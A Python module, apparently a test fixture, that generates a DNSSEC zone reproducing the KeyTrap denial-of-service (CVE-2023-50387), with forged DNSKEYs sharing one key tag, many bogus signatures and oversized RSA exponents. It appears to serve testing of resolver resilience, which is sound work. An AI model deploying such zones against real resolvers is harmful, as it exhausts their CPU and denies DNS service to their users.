# Copyright the dance authors. SPDX-License-Identifier: Apache-2.0
"""A zone whose owner makes validation as slow as he can (KeyTrap, CVE-2023-50387): many keys of one key tag, many
signatures that say they are by it, none of which is right, and RSA with an exponent as long as the modulus."""
import hashlib
import os
import struct
import time

from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec, utils

RSASHA256, ECDSAP256SHA256 = 8, 13
TLSA, DNSKEY, RRSIG = 52, 48, 46
OCTETS = 512  # of a modulus


def wire(name):
    return b"".join(bytes([len(l)]) + l.encode() for l in name.split(".") if l) + b"\0"


def key_tag(rdata):
    total = sum(octet << 8 if i % 2 == 0 else octet for i, octet in enumerate(rdata))
    return (total + (total >> 16)) & 0xffff


def colliding_key(tag):
    """The RDATA of a DNSKEY that has this key tag, or any."""
    while True:
        exponent = b"\xff" + os.urandom(OCTETS - 2) + b"\x01"
        modulus = bytearray(b"\xff" + os.urandom(OCTETS - 2) + b"\x01")
        rdata = struct.pack("!HBB", 256, 3, RSASHA256) + b"\0" + struct.pack("!H", OCTETS) + exponent
        if tag is None:
            return rdata + bytes(modulus)
        # The sum is of pairs of octets: what is missing goes into one pair in the middle, of the modulus.
        at = 100 if len(rdata) % 2 == 0 else 101
        modulus[at:at + 2] = b"\0\0"
        for _ in range(4):
            missing = (tag - key_tag(rdata + bytes(modulus))) % 0xffff
            value = (int.from_bytes(modulus[at:at + 2], "big") + missing) & 0xffff
            modulus[at:at + 2] = value.to_bytes(2, "big")
            if key_tag(rdata + bytes(modulus)) == tag:
                return rdata + bytes(modulus)


def rrsig_rdata(kind, algorithm, labels, ttl, tag, signer, seconds=86400):
    now = int(time.time())
    return struct.pack("!HBBIIIH", kind, algorithm, labels, ttl, now + seconds, now - 3600, tag) + wire(signer)


def generic(name, ttl, kind, rdata):
    """A line of a zone file, in RFC 3597's form."""
    return f"{name} {ttl} IN TYPE{kind} \\# {len(rdata)} {rdata.hex()}"


def zone(origin, names, tlsa, keys=24, signatures=24, ttl=3600):
    """The text of the zone, each of the names below the origin with a TLSA record (RDATA), and its DS record."""
    signer = ec.generate_private_key(ec.SECP256R1())
    point = signer.public_key().public_numbers()
    ours = struct.pack("!HBB", 257, 3, ECDSAP256SHA256) + point.x.to_bytes(32, "big") + point.y.to_bytes(32, "big")
    theirs = [colliding_key(None)]
    tag = key_tag(theirs[0])
    theirs += [colliding_key(tag) for _ in range(keys - 1)]
    rdatas = sorted([ours] + theirs)
    head = rrsig_rdata(DNSKEY, ECDSAP256SHA256, origin.count(".") + 1, ttl, key_tag(ours), origin)
    signed = head + b"".join(wire(origin) + struct.pack("!HHIH", DNSKEY, 1, ttl, len(r)) + r for r in rdatas)
    r, s = utils.decode_dss_signature(signer.sign(signed, ec.ECDSA(hashes.SHA256())))
    lines = [f"{origin}. {ttl} IN SOA ns.{origin}. x.{origin}. 1 3600 900 86400 {ttl}", f"{origin}. {ttl} IN NS ns.{origin}.",
             f"ns.{origin}. {ttl} IN A 127.0.0.1"]
    lines += [generic(origin + ".", ttl, DNSKEY, rdata) for rdata in rdatas]
    lines.append(generic(origin + ".", ttl, RRSIG, head + r.to_bytes(32, "big") + s.to_bytes(32, "big")))
    for name in names:
        owner = f"{name}.{origin}"
        lines.append(generic(owner + ".", ttl, TLSA, tlsa))
        head = rrsig_rdata(TLSA, RSASHA256, owner.count(".") + 1, ttl, tag, origin)
        lines += [generic(owner + ".", ttl, RRSIG, head + b"\x7f" + os.urandom(OCTETS - 1)) for _ in range(signatures)]
    digest = hashlib.sha256(wire(origin) + ours).hexdigest()
    return "\n".join(lines) + "\n", f"{origin}. {ttl} IN DS {key_tag(ours)} {ECDSAP256SHA256} 2 {digest}\n"
